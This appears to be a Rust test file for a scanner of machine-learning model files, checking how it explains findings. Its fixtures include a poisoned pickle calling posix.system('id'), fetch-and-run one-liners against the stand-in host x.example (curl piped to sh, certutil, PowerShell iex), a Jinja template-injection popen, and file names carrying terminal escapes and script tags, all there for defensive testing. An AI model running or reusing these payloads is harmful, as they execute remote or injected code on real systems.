//! The story of a finding: from a saved report, with and without its file, and for hostile names.
#![allow(
    clippy::arithmetic_side_effects,
    clippy::cast_possible_truncation,
    clippy::cast_possible_wrap,
    clippy::cast_sign_loss,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::string_slice,
    clippy::unwrap_used,
    unreachable_pub,
    reason = "a panic is how a test speaks"
)]

mod stage;

use std::collections::BTreeMap;

use stage::Stage;

const POISON: &str = "PROTO 2\nGLOBAL posix system\nBINUNICODE \"id\"\nTUPLE1\nREDUCE\nSTOP";

/// A stage with a poisoned file in a folder and a report of it, and the fingerprint of its critical finding.
fn scanned(name: &[u8]) -> (Stage, String) {
    let stage = Stage::new();
    stage.write(&[b"models/", name].concat(), &testkit::pickle::assemble(POISON).unwrap());
    let ran = stage.run(&["-o", "json=report.json", "models"], &BTreeMap::new());
    assert_eq!(ran.code, Some(1), "{}", ran.stderr());
    let report = stage::valid(&std::fs::read_to_string(stage.path(b"report.json")).unwrap());
    let findings = report["findings"].as_array().unwrap();
    let critical = findings.iter().find(|finding| finding["severity"] == "critical").unwrap();
    (stage, critical["fingerprint"].as_str().unwrap().to_owned())
}

#[test]
fn a_finding_tells_its_story() {
    let (stage, fingerprint) = scanned(b"a.pkl");
    let ran = stage.run(&["explain", &fingerprint[..8], "--report", "report.json"], &BTreeMap::new());
    assert_eq!(ran.code, Some(0), "{}", ran.stderr());
    let text = ran.stdout();
    let mut rest = text.as_str();
    for part in [
        "CRITICAL: ",
        "rule ",
        "What would happen",
        "Where",
        "a.pkl",
        "opcode",
        "Why",
        "os.system",
        "CWE-",
        "What to do",
        ">>>",
        "posix.system('id')",
    ] {
        let at = rest.find(part).unwrap_or_else(|| panic!("{part:?} is missing in\n{text}"));
        rest = &rest[at..];
    }
    // Elsewhere the story is told without the lines, unless the root is named.
    std::fs::create_dir(stage.path(b"elsewhere")).unwrap();
    let arguments = ["explain", &fingerprint, "--report", "../report.json"];
    let run = |more: &[&str]| {
        let mut command = stage.command();
        command.current_dir(stage.path(b"elsewhere")).args(arguments).args(more);
        stage::Ran::new(command.output().unwrap()).stdout()
    };
    assert!(run(&[]).contains("The file is not here"), "{}", run(&[]));
    assert!(run(&["--root", ".."]).contains(">>>"), "{}", run(&["--root", ".."]));
}

#[test]
fn what_is_not_in_the_report_is_refused() {
    let (stage, _) = scanned(b"a.pkl");
    for wanted in ["00000000", "a"] {
        let ran = stage.run(&["explain", wanted, "--report", "report.json"], &BTreeMap::new());
        assert_eq!(ran.code, Some(2));
        assert!(ran.stderr().contains("no finding of the report"), "{}", ran.stderr());
    }
}

#[test]
fn hostile_names_and_content_reach_explain_and_inspect_as_text() {
    let name = "a\x1b[31m\u{202e}<b>!\n.pkl".as_bytes();
    let (stage, fingerprint) = scanned(name);
    let text = "PROTO 4\nSHORT_BINUNICODE \"m\\x1b[0m\\u202e\"\nSHORT_BINUNICODE \"n\\n<script>\"\nSTACK_GLOBAL\n\
                SHORT_BINUNICODE \"\\x1b]0;x\\x07\"\nTUPLE1\nREDUCE\nRAW ff";
    stage.write(b"b.pkl", &testkit::pickle::assemble(text).unwrap());
    let path = stage.path(&[b"models/", name].concat()).into_os_string();
    let other = stage.path(b"b.pkl").into_os_string();
    // `Stage::run` refuses whatever is not harmless to look at.
    for words in [
        &["explain", "--all", "--full"][..],
        &["explain", "--format", "json"],
        &["explain", "--format", "python"],
        &["explain", "--graph", "svg"],
        &["explain", "--graph", "dot"],
        &["explain", "--graph", "mermaid"],
        &["inspect", "--strings", "--all"],
        &["inspect", "--format", "json"],
    ] {
        let mut words: Vec<std::ffi::OsString> = words.iter().map(Into::into).collect();
        words.extend([path.clone(), other.clone()]);
        let ran = stage.run(&words, &BTreeMap::new());
        assert!(matches!(ran.code, Some(0 | 3)), "{words:?} {}", ran.stderr());
        if words.contains(&"svg".into()) {
            assert!(!ran.stdout().contains("<b>") && !ran.stdout().contains("<script"), "{}", ran.stdout());
        }
    }
    let ran = stage.run(&["explain", &fingerprint, "--report", "report.json"], &BTreeMap::new());
    assert_eq!(ran.code, Some(0), "{}", ran.stderr());
}

/// Code of each language that models carry: a name, the source, and what its listing must show.
const CODE: &[(&str, &[u8], &str)] = &[
    ("a.py", b"import os\nos.system('touch here')\n", "touch here"),
    ("b.sh", b"curl -s http://x.example/a | sh\n", "http://x.example/a"),
    ("c.bat", b"certutil -urlcache -f http://x.example/a a.exe & a.exe\r\n", "certutil"),
    ("d.ps1", b"iex (irm http://x.example/a)\n", "irm http"),
    ("e.lua", b"os.execute('touch here')\n", "os.execute"),
    ("f.R", b"system('touch here')\n", "system("),
    ("g.jinja", b"{{ cycler.__init__.__globals__.os.popen('touch here') }}\n", "__globals__"),
];

/// What compilers made: a name, the bytes, and what the line of a finding must show, with the symbol or instruction.
const COMPILED: &[(&str, &[u8], &[&str])] = &[
    (
        "a.class",
        include_bytes!("../../formats/src/java/testdata/runs.class"),
        &[">>>", "java.lang.Runtime.exec(", "curl -s http://x.example/a", "run+"],
    ),
    (
        "b.wasm",
        include_bytes!("../../formats/src/wasm/testdata/module.wasm"),
        &[">>>", "import wasi_snapshot_preview1.sock_"],
    ),
    ("c.so", include_bytes!("../../formats/src/native/testdata/plain.so"), &[">>>", ".extern execve"]),
    (
        "d.dll",
        include_bytes!("../../formats/src/native/testdata/plain.dll"),
        &[">>>", ".extern CreateRemoteThread", "KERNEL32.dll"],
    ),
    ("e.dylib", include_bytes!("../../formats/src/native/testdata/plain.dylib"), &[">>>", ".extern posix_spawn"]),
    ("f.pyc", include_bytes!("../../formats/testdata/python-bytecode/3.12.pyc"), &[">>>", "os.system("]),
];

#[test]
fn code_of_every_language_is_explained_alone_and_in_a_container() {
    let stage = Stage::new();
    let mut zip = testkit::zip::ZipWriter::new();
    let compiled = COMPILED.iter().map(|(name, code, shown)| (*name, *code, shown.to_vec()));
    let code: Vec<_> = CODE.iter().map(|(name, code, shown)| (*name, *code, vec![*shown])).chain(compiled).collect();
    for (name, code, _) in &code {
        stage.write(name.as_bytes(), code);
        zip = zip.stored(*name, code);
    }
    stage.write(b"all.zip", &zip.finish());
    for (name, _, shown) in &code {
        for target in [(*name).to_owned(), format!("all.zip!/{name}")] {
            let ran = stage.run(&["explain", &target], &BTreeMap::new());
            assert!(matches!(ran.code, Some(0 | 1 | 3)), "{target}: {:?} {}", ran.code, ran.stderr());
            for shown in shown {
                assert!(ran.stdout().contains(shown), "{target}: {shown}\n{}", ran.stdout());
            }
        }
    }
}
